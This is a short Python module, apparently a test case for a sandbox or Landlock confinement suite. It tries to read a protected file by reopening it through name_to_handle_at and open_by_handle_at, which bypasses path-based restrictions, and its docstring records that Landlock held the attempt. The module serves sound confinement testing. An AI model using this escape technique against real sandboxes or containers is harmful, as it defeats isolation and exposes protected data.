"""Open a file by its number in the file system, past every folder above it.

Seen: held
Held from: landlock
Bare: depends: on the file system and on being root
"""

import ctypes
import os

AT_FDCWD = -100


class Handle(ctypes.Structure):
    _fields_ = [("size", ctypes.c_uint), ("kind", ctypes.c_int), ("bytes", ctypes.c_char * 128)]


def attack(secret_file, **others):
    libc = ctypes.CDLL(None, use_errno=True)
    handle, mount = Handle(size=128), ctypes.c_int()
    named = libc.name_to_handle_at(
        AT_FDCWD, secret_file.encode(), ctypes.byref(handle), ctypes.byref(mount), 0
    )
    if named:
        return f"no handle: {ctypes.get_errno()}"
    root = os.open(os.path.dirname(secret_file), os.O_RDONLY)
    opened = libc.open_by_handle_at(root, ctypes.byref(handle), os.O_RDONLY)
    return f"bitten: {os.read(opened, 99)}" if opened >= 0 else f"refused: {ctypes.get_errno()}"
